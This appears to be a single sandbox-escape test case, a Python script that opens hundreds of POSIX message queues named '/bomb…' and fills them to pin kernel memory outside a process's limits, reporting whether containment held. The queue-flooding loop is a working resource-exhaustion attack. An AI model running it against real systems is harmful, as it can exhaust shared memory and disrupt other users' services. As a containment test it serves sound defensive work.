"""Leaves memory behind in POSIX message queues."""

import contextlib
import ctypes
import os

from attack import LIBC, contained, escaped, named


class Attributes(ctypes.Structure):
    """struct mq_attr."""

    _fields_ = [(name, ctypes.c_long) for name in ("flags", "most", "size", "now", "a", "b", "c", "d")]


try:
    library = ctypes.CDLL("librt.so.1", use_errno=True)
except OSError:
    library = LIBC
queues = sent = 0
while queues < 600:
    attributes = Attributes(0, 10, 8192)
    queue = library.mq_open(
        f"/bomb{queues}".encode(), os.O_CREAT | os.O_RDWR | os.O_NONBLOCK, 0o600, ctypes.byref(attributes)
    )
    if queue < 0:
        break
    queues += 1
    with contextlib.suppress(OSError):
        while library.mq_send(queue, b"x" * 8192, 8192, 0) == 0:
            sent += 8192
(escaped if sent > 16 << 20 else contained)(f"{sent} bytes in {queues} queues: {named(ctypes.get_errno())}")
